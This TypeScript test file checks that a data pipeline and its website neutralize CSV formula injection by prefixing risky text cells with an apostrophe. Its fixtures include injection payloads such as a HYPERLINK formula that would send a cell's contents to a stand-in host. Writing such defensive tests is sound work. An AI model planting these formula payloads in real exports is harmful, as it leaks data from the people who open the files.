// CSV injection (OWASP): text cells starting with =, +, -, @, tab or CR get a leading ' in the CSV exports and in the
// site's CSV downloads; numbers and the Parquet exports keep their values.
import {describe, expect, it} from "vitest";
import {DuckDBInstance} from "@duckdb/node-api";
import {mkdtemp, readFile, rm} from "node:fs/promises";
import {tmpdir} from "node:os";
import path from "node:path";
import Papa from "papaparse";
import {neutralizeCell} from "../../pipeline/csv-safe.ts";
import {exportMarts} from "../../pipeline/exports.ts";
import {Db} from "../../pipeline/db.ts";
// @ts-expect-error a plain browser module without types
import {neutralizeCell as siteNeutralize, neutralizeRows} from "../../src/components/csv-safe.js";

const CASES: [string, string][] = [
  ['=HYPERLINK("http://x/?q="&A1,"a")', `'=HYPERLINK("http://x/?q="&A1,"a")`],
  ["+1养老院", "'+1养老院"],
  ["-2", "'-2"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\tcmd", "'\tcmd"],
  ["\rcmd", "'\rcmd"],
  ["东湖区", "东湖区"],
  ["a=b", "a=b"],
  ["", ""]
];

describe("neutralizing formula cells", () => {
  it.each(CASES)("%j → %j (pipeline and site alike)", (value, expected) => {
    expect(neutralizeCell(value)).toBe(expected);
    expect(siteNeutralize(value)).toBe(expected);
  });

  it("site rows: text neutralized, numbers, dates and nulls unchanged", () => {
    const date = new Date(0);
    expect(neutralizeRows([{name: "=1+1", n: -5, d: date, x: null}])).toEqual([{name: "'=1+1", n: -5, d: date, x: null}]);
  });

  it("exports: CSV text cells neutralized, numbers not; Parquet keeps the values", async () => {
    const work = await mkdtemp(path.join(tmpdir(), "aging-csvsafe-"));
    const warehouse = path.join(work, "w.duckdb");
    const instance = await DuckDBInstance.create(warehouse);
    const conn = await instance.connect();
    await conn.run(`create schema marts; create schema meta;
      create table meta.runs(run_id varchar, finished_at timestamp, as_of date); create table meta.params(key varchar, value varchar);
      create table marts.names(name varchar, change integer);
      insert into marts.names values ('=HYPERLINK("http://x","a")', -3), ('-2养老院', 4), ('东湖区', -1), (null, null);`);
    conn.closeSync();
    instance.closeSync();
    await exportMarts(warehouse, path.join(work, "exports"));
    const csv = (await readFile(path.join(work, "exports", "csv", "names.csv"), "utf8")).replace(/^\ufeff/, "");
    expect(Papa.parse<string[]>(csv, {skipEmptyLines: true}).data).toEqual([
      ["name", "change"],
      [`'=HYPERLINK("http://x","a")`, "-3"],
      ["'-2养老院", "4"],
      ["东湖区", "-1"],
      ["", ""]
    ]);
    const db = await Db.open();
    const rows = await db.all<{name: string}>(`select name from read_parquet('${path.join(work, "exports", "parquet", "names.parquet")}') where name is not null order by name`);
    expect(rows.map((r) => r.name).sort()).toEqual(['-2养老院', '=HYPERLINK("http://x","a")', "东湖区"].sort());
    db.close();
    await rm(work, {recursive: true, force: true});
  });
});
